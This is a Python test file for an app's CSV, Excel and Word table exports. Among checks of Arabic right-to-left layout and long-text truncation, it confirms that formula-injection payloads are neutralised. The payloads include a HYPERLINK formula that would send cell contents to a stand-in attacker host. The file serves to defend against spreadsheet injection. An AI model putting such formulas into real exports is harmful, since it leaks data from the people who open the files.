"""The files themselves: read back as a spreadsheet would read them."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import docx
import openpyxl
import pytest
from flask import Flask
from flask_babel import force_locale

from nursery.feedback.exchange import docx_table
from nursery.papers import csv_table, table, xlsx_table
from nursery.papers.table import Column, Table

# A moment as spreadsheets keep it: on a clock in Damascus, without a zone.
LOCAL_NOON = datetime(2026, 11, 21, 12, 0, tzinfo=UTC).replace(tzinfo=None)
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "＝1+1",
    "http://evil.example/",
)


def _one_row(*values: table.Value) -> Table:
    columns = [Column(f"c{position}", 10) for position in range(len(values))]
    return Table("عنوان", "ar", columns, iter([values]))


class TestCsv:
    def test_no_cell_is_executed(self, app: Flask, tmp_path: Path) -> None:
        file = tmp_path / "table.csv"
        csv_table.write(file, _one_row(*PAYLOADS, "a=1", 7, None, LOCAL_NOON))
        assert file.read_bytes().startswith(b"\xef\xbb\xbf")
        with file.open(encoding="utf-8-sig", newline="") as stream:
            cells = list(csv.reader(stream))[1]
        assert cells[:8] == [f"'{payload}" for payload in PAYLOADS[:8]]
        assert cells[8:] == ["http://evil.example/", "a=1", "7", "", "2026-11-21 12:00"]

    def test_headings_are_safe_too(self, app: Flask, tmp_path: Path) -> None:
        file = tmp_path / "table.csv"
        csv_table.write(file, Table("t", "en", [Column("=1", 5)], iter([])))
        assert file.read_text("utf-8-sig").strip() == "'=1"


class TestXlsx:
    def test_no_cell_is_a_formula_or_a_link(self, app: Flask, tmp_path: Path) -> None:
        file = tmp_path / "table.xlsx"
        with app.app_context(), force_locale("ar_SY"):
            assert xlsx_table.write(file, _one_row(*PAYLOADS)) == 1
        sheet = openpyxl.load_workbook(file).active
        assert sheet is not None
        cells = list(sheet[2])
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(cell.hyperlink is None for cell in cells)
        assert [cell.value for cell in cells][:4] == list(PAYLOADS[:4])

    @pytest.mark.parametrize(("language", "rtl"), [("ar", True), ("en", False)])
    def test_sheet(self, app: Flask, tmp_path: Path, language: str, rtl: bool) -> None:
        file = tmp_path / "table.xlsx"
        moment = LOCAL_NOON
        rows = iter([(1, "نص", moment), (2, "نص", moment)])
        columns = [Column("a", 8), Column("b", 40), Column("c", 17)]
        with app.app_context(), force_locale(language):
            assert xlsx_table.write(file, Table("t", language, columns, rows)) == 2
        sheet = openpyxl.load_workbook(file).active
        assert sheet is not None
        assert bool(sheet.sheet_view.rightToLeft) is rtl
        assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:C3")
        assert sheet["A2"].value == 1 and sheet["C3"].value == moment and sheet["C3"].is_date
        assert sheet["B2"].alignment.wrap_text and 40 <= sheet.column_dimensions["B"].width < 42

    def test_a_text_longer_than_a_cell_is_cut_and_says_so(self, app: Flask, tmp_path: Path) -> None:
        file = tmp_path / "table.xlsx"
        with app.app_context(), force_locale("en"):
            xlsx_table.write(file, _one_row("ن" * 50_000))
        sheet = openpyxl.load_workbook(file).active
        assert sheet is not None and isinstance(sheet["A2"].value, str)
        assert len(sheet["A2"].value) < 32_767
        assert sheet["A2"].value.endswith("The whole text is on the platform.]")


class TestDocx:
    @pytest.mark.parametrize(("language", "rtl"), [("ar", True), ("en", False)])
    def test_document(self, app: Flask, tmp_path: Path, language: str, rtl: bool) -> None:
        file = tmp_path / "table.docx"
        rows = iter([("1.1 قسم", "a & b <c>"), ("1.1 قسم", "سطر\nآخر"), ("1.2 قسم", None)])
        made = Table("t", language, [Column("القسم", 10), Column("نص", 30)], rows, parted_by=0, note="ISO")
        assert docx_table.write(file, made) == 3
        word = docx.Document(str(file))
        assert [len(one.rows) for one in word.tables] == [3, 2], (
            "a part for each section, each with its header"
        )
        assert word.tables[0].cell(1, 1).text == "a & b <c>" and word.tables[0].cell(2, 1).text == "سطر\nآخر"
        headings = [one.text for one in word.paragraphs if one.style and one.style.name == "Heading 1"]
        assert headings == ["1.1 قسم", "1.2 قسم"]
        xml = word.tables[0]._tbl.xml
        assert ("w:bidiVisual" in xml) is rtl and "<w:bidi/>" in xml, "Arabic words run as they do"
        assert "w:tblHeader" in xml and "w:rtl" in xml
        page = word.sections[0]
        assert page.page_width and page.page_height and page.page_width > page.page_height

    def test_no_row(self, app: Flask, tmp_path: Path) -> None:
        file = tmp_path / "table.docx"
        assert docx_table.write(file, Table("t", "en", [Column("a", 1)], iter([]), parted_by=0)) == 0
        assert docx.Document(str(file)).tables[0].cell(0, 0).text == "a"
